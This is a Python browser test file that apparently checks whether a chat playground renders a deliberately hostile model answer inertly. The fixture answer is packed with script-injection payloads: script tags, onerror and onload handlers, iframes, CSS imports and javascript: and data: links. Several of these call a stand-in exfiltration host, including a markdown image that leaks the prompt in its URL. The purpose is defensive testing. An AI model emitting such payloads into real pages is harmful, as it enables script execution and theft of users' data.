"""What a model writes is a stranger's text: nothing of it runs, loads or calls, and every link says where it goes."""

import json
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.browser.driver import App, running_app

pytestmark = pytest.mark.browser

LURE = "https://collector.example/steal"
HOSTILE = f"""\
<script>window.hit = 1; fetch("{LURE}?script")</script>
<img src="{LURE}.png" onerror="window.hit = 2"><iframe src="{LURE}"></iframe>
<style>@import url("{LURE}.css"); body {{ display: none }}</style>

A picture ![of a cat]({LURE}.png?q=the+prompt) and a [harmless page]({LURE}?who=me), one by reference: [paper][1].

[click me](javascript:window.hit=3) and [data](data:text/html,<script>window.hit=4</script>)

[1]: {LURE}/reference

:red[a warning] and :material/home: cost $5 and $6 and ![]({LURE}/empty.png)

<a href="javascript:window.hit=5">raw link</a> <svg onload="window.hit=6"></svg>

```html
<img src="{LURE}/code.png">
```
"""
LONG = "word " * 20_000


def answer_of(prompt: str) -> str:
    return LONG + "\n\nThe end." if "long" in prompt else HOSTILE


@pytest.fixture(scope="module")
def stranger() -> Iterator[str]:
    """A service whose answers are as hostile as they get; returns its address."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            sent = self.rfile.read(int(self.headers.get("content-length", 0))).decode()
            if ":streamGenerateContent" not in self.path:
                self.send_response(404)
                self.end_headers()
                return
            self.send_response(200)
            self.send_header("content-type", "text/event-stream")
            self.end_headers()
            text = answer_of(sent)
            for start in range(0, len(text), len(text) // 8):
                self.say({"content": {"parts": [{"text": text[start : start + len(text) // 8]}], "role": "model"}})
            self.say({"content": {"parts": [{"text": ""}], "role": "model"}, "finishReason": "STOP"})

        def say(self, candidate: dict[str, object]) -> None:
            self.wfile.write(f"data: {json.dumps({'candidates': [candidate]})}\r\n\r\n".encode())
            self.wfile.flush()

        def do_GET(self) -> None:
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def fooled_app(stranger, tmp_path_factory) -> Iterator[App]:
    with running_app(tmp_path_factory.mktemp("stranger"), {"GOOGLE_GEMINI_BASE_URL": stranger}) as started:
        yield started
    assert "Traceback" not in started.log_text()


def test_a_hostile_answer_runs_nothing_and_loads_nothing_and_its_links_say_where_they_go(visit, fooled_app):
    """That nothing was asked from anywhere else is asserted when the window closes."""
    screen = visit("playground", on=fooled_app)
    screen.run("Say what you like")
    answer = screen.answer(0)
    expect(answer).to_contain_text("picture: of a cat")
    assert screen.page.evaluate("() => window.hit") is None
    assert answer.locator("img, script, iframe, style, svg[onload], object, embed").count() == 0
    links = answer.locator("a[href]").evaluate_all("all => all.map(one => [one.textContent, one.getAttribute('href')])")
    # Two pictures, two links, and the definition of the reference, which is its address itself.
    assert len(links) == 5
    assert all(address.startswith(LURE) for _, address in links)
    for shown in ("collector.example/steal.png…", "collector.example/steal…", "collector.example/steal/reference"):
        expect(answer).to_contain_text(f"({shown})")
    # Signs of the page itself and of formulas stay as they were written.
    for written in (":\u2060red[a warning]", ":\u2060material/home:", "$5 and $6", "javascript:window.hit=3"):
        expect(answer).to_contain_text(written)
    expect(answer.locator("code").last).to_contain_text(f'<img src="{LURE}/code.png">')

    for view, mark in (("Differences", "100%"), ("In numbers", "Characters"), ("Code", "genai"), ("Measures", "Cost")):
        screen.keyed("playground_views").get_by_text(view, exact=True).click()
        screen.settle()
        expect(screen.main).to_contain_text(mark)
    screen.keyed("playground_views").get_by_text("Raw", exact=True).click()
    expect(answer.get_by_test_id("stCode")).to_contain_text("<script>window.hit = 1;")
    # The next turn folds this one, which must be as inert there.
    box = screen.page.get_by_test_id("stChatInputTextArea")
    box.fill("And then?")
    box.press("Enter")
    expect(screen.main.locator("p.turn")).to_contain_text("Turn 2")
    screen.finish()
    folded = screen.page.get_by_test_id("stExpander").filter(has_text="Turn 1")
    folded.locator("summary").click()
    expect(folded).to_contain_text("picture: of a cat")
    assert folded.locator("img, script, iframe, style").count() == 0
    assert screen.page.evaluate("() => window.hit") is None
    screen.go_to("History")
    assert screen.main.locator("img, iframe").count() == 0
    assert screen.page.evaluate("() => window.hit") is None


def test_an_answer_of_one_line_of_a_hundred_thousand_letters_is_shown_and_does_not_hang(visit, fooled_app):
    screen = visit("playground", on=fooled_app)
    started = time.monotonic()
    screen.run("A long one")
    expect(screen.answer(1)).to_contain_text("The end.")
    print(f"100 kB in one line, both sides whole on screen after {time.monotonic() - started:.1f} s")
    wide = screen.main.evaluate("main => main.scrollWidth - main.clientWidth")
    assert wide <= 0
    assert len(re.findall("word", screen.answer_text(0))) == 20_000
